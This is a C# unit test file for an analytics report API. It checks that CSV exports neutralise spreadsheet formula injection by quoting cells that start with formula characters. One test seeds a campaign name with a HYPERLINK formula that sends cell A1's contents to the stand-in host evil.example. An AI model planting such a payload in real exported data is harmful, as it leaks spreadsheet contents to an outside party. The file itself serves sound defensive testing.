using System.Net;
using Analytics.ReportApi.Exports;

namespace Analytics.Tests.Security;

/// <summary>
/// A text cell a spreadsheet would read as a formula (=, +, -, @, a tab or a carriage return first) is written with
/// a leading single quote, so opening an export in Excel runs nothing; numbers keep their sign.
/// </summary>
public sealed class FormulaCellTests(CampaignBook company) : IClassFixture<CampaignBook>
{
    [Fact]
    public async Task A_hyperlink_formula_in_an_exported_cell_is_written_as_text()
    {
        using (var connection = company.Book.Warehouse.Connect())
        {
            Analytics.Warehouse.SqlExtensions.Execute(connection,
                "update campaigns.campaigns set name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"spring\")' where campaign_id = 1");
        }

        var (status, body) = await company.Host.Get("/exports/Campaigns.csv?$select=CampaignId,Name");

        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Equal("CampaignId,Name\r\n1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"spring\"\")\"\r\n", body.TrimStart('\uFEFF'));
    }

    [Fact]
    public void Every_formula_lead_is_quoted_and_numbers_are_not()
    {
        var line = CsvText.Line(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b", -1.5m, -7L, ""]);

        Assert.Equal("'=1+1,'+1,'-1,'@SUM(A1),'\t=1,\"'\r=1\",plain,a=b,-1.5,-7,\r\n", line);
    }
}
